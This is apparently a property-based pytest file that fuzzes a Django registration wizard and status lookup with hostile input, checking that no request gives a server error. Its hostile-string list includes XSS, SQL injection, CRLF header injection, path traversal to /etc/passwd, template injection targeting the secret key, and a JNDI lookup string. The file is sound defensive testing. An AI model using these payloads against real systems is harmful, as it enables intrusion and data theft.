"""Property-based hostile input (hypothesis) against every wizard step and the status lookup: never a 500.

Each wizard target starts every example from a copy of a real session standing
at that step (all earlier steps answered validly) and posts a random payload:
random text with control characters, full-width digits, 10 kB values, HTML and
injection strings, ID numbers with a *correct* check digit but odd region or
date parts, repeated keys, missing or forged management data, wrong step names
in the URL and in the form, random "go to step" values. Cases run per target:
`WIZARD_EXAMPLES` per wizard step (9 steps) and `STATUS_EXAMPLES` for the
status lookup; the count actually run is asserted and printed (`pytest -s`).
"""

import copy
import functools
from importlib import import_module
from urllib.parse import quote

import pytest
from django.conf import settings as django_settings
from hypothesis import HealthCheck, given
from hypothesis import settings as hsettings
from hypothesis import strategies as st
from stdnum.cn import ric

from forms_intake.models import Submission
from forms_intake.steps.forms import STEP_FORMS, StatusLookupForm
from tests.forms_intake.wizard_support import employed_self_answers, proxy_child_answers, run_wizard

pytestmark = pytest.mark.django_db

WIZARD_EXAMPLES = 45
STATUS_EXAMPLES = 150
STEPS = [name for name, _form in STEP_FORMS]


@functools.cache
def fields_of(step):
    """The step form's field names (address steps add theirs at run time, from the division table)."""
    return list(dict(STEP_FORMS)[step](wizard_context={}).fields)


CASES_RUN = {}


def hypothesis_settings(max_examples):
    """Examples run against a live test client: no deadline, no example database on disk."""
    return hsettings(
        max_examples=max_examples,
        deadline=None,
        database=None,
        suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow, HealthCheck.data_too_large],
    )


HOSTILE_STRINGS = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "' OR '1'='1' --",
    "\r\nSet-Cookie: injected=1",
    "王五\r\n2026-01-01 INFO forged log line",
    "\x00",
    "\u202e\u200b\ufeff",
    "../../../../etc/passwd",
    "{{ settings.SECRET_KEY }}",
    "%(name)s %s {0}",
    "${jndi:ldap://example.invalid/a}",
    "１３８１２３４５６７８",
    "４３０１０２１９９００１０１１２３Ｘ",
    "430102 19900101 1234",
    "-1",
    "1e309",
    "NaN",
    "[]",
    '{"a": 1}',
]

full_width_digits = st.text(alphabet="０１２３４５６７８９Ｘｘ－＋　", min_size=1, max_size=20)
ten_kilobytes = st.builds(lambda char, n: char * n, st.characters(), st.integers(9_000, 10_240))
odd_regions = st.one_of(
    st.sampled_from(["000000", "999999", "830000", "810000", "820000", "710000", "439999", "430100", "990000"]),
    st.from_regex(r"\d{6}", fullmatch=True),
)
odd_dates = st.one_of(
    st.sampled_from(["00000000", "99999999", "19000229", "20000229", "21000101", "18991231", "20991231", "20260230"]),
    st.from_regex(r"\d{8}", fullmatch=True),
)


@st.composite
def id_numbers_with_check_digit(draw):
    """18-character ID numbers whose GB 11643 check digit is right, whatever the region and date say."""
    body = draw(odd_regions) + draw(odd_dates) + draw(st.from_regex(r"\d{3}", fullmatch=True))
    number = body + ric.calc_check_digit(body + "0")
    style = draw(st.sampled_from(["plain", "lower", "spaced", "full-width"]))
    if style == "lower":
        return number.lower()
    if style == "spaced":
        return f"{number[:6]} {number[6:14]} {number[14:]}"
    if style == "full-width":
        return "".join(chr(ord(c) + 0xFEE0) if c.isascii() and c.isalnum() else c for c in number)
    return number


scalars = st.one_of(
    st.text(max_size=40),
    full_width_digits,
    ten_kilobytes,
    st.sampled_from(HOSTILE_STRINGS),
    id_numbers_with_check_digit(),
    st.from_regex(r"\+?86[- ]?1[3-9]\d{9}", fullmatch=True),
    st.from_regex(r"\d{2,12}", fullmatch=True),
    st.sampled_from(["on", "true", "self", "other", "employed_in_province", "preschool", "community", "employer"]),
)
values = st.one_of(scalars, st.lists(scalars, min_size=0, max_size=3))


def _step_names():
    return st.one_of(st.sampled_from([*STEPS, "done", "", "REVIEW", "filer/../review"]), st.text(max_size=20))


@st.composite
def wizard_payloads(draw, step):
    data = {}
    for field in fields_of(step):
        if draw(st.booleans()) or draw(st.booleans()):
            data[f"{step}-{field}"] = draw(values)
    management = draw(st.sampled_from(["real", "real", "missing", "forged", "other-step"]))
    if management == "real":
        data["registration-current_step"] = step
    elif management == "forged":
        data["registration-current_step"] = draw(values)
    elif management == "other-step":
        data["registration-current_step"] = draw(st.sampled_from(STEPS))
    if draw(st.integers(0, 4)) == 0:
        data["wizard_goto_step"] = draw(_step_names())
    if draw(st.integers(0, 6)) == 0:
        data["wizard_refresh"] = "1"
    if draw(st.integers(0, 4)) == 0:
        data[draw(st.text(min_size=1, max_size=30))] = draw(values)
    url_step = step if draw(st.integers(0, 3)) else draw(_step_names())
    return quote(url_step, safe="") or step, data


def _answers_for(step):
    return proxy_child_answers() if step == "proxy" else employed_self_answers()


def _clone_session(client, data):
    """A fresh server-side session holding a copy of `data`, installed in the client."""
    store_class = import_module(django_settings.SESSION_ENGINE).SessionStore
    store = store_class()
    store.update(copy.deepcopy(data))
    store.create()
    client.cookies[django_settings.SESSION_COOKIE_NAME] = store.session_key


def _assert_controlled(response, context):
    assert response.status_code < 500, context


@pytest.mark.parametrize("step", STEPS)
def test_hostile_posts_to_each_wizard_step_never_give_500(client, registration_site, step):
    run_wizard(client, _answers_for(step), stop_before=step)
    prepared = dict(client.session.items())
    submissions_before = Submission.objects.count()
    CASES_RUN[step] = 0

    @hypothesis_settings(WIZARD_EXAMPLES)
    @given(payload=wizard_payloads(step), language=st.sampled_from(["", "/en"]))
    def post_hostile(payload, language):
        url_step, data = payload
        _clone_session(client, prepared)
        response = client.post(f"{language}/register/step/{url_step}/", data)
        CASES_RUN[step] += 1
        _assert_controlled(response, (url_step, sorted(data)))
        if step != "review":
            # Nothing but the review step's own POST may ever create a registration.
            assert Submission.objects.count() == submissions_before

    post_hostile()
    print(f"\nhostile input: {CASES_RUN[step]} cases against wizard step {step!r}")
    assert CASES_RUN[step] >= WIZARD_EXAMPLES * 0.8


@pytest.mark.parametrize("step", ["identity", "review"])
def test_hostile_posts_without_any_session_never_give_500(client, registration_site, step):
    @hypothesis_settings(20)
    @given(payload=wizard_payloads(step))
    def post_cold(payload):
        client.cookies.clear()
        url_step, data = payload
        response = client.post(f"/register/step/{url_step}/", data)
        _assert_controlled(response, (url_step, sorted(data)))
        assert Submission.objects.count() == 0

    post_cold()


@st.composite
def status_payloads(draw):
    data = {}
    for field in StatusLookupForm.base_fields:
        if draw(st.integers(0, 5)):
            data[field] = draw(values)
    if draw(st.integers(0, 5)) == 0:
        data[draw(st.text(min_size=1, max_size=20))] = draw(values)
    return data


def test_hostile_status_lookups_never_give_500(client, registration_site, settings):
    # The limiter would answer 429 after a few tries; here the lookup itself is under test.
    settings.RATELIMIT_ENABLED = False
    CASES_RUN["status"] = 0

    @hypothesis_settings(STATUS_EXAMPLES)
    @given(data=status_payloads(), language=st.sampled_from(["", "/en"]))
    def lookup(data, language):
        response = client.post(f"{language}/status/", data)
        CASES_RUN["status"] += 1
        _assert_controlled(response, sorted(data))
        assert response.status_code in (200, 400)

    lookup()
    print(f"\nhostile input: {CASES_RUN['status']} cases against the status lookup")
    assert CASES_RUN["status"] >= STATUS_EXAMPLES * 0.8
